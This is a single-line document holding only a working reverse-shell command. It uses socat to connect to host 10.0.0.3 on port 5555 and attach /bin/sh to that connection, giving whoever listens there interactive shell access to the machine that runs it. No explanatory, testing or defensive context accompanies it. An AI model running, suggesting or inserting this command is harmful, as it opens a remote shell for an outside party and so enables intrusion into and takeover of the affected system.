socat TCP:10.0.0.3:5555 EXEC:/bin/sh
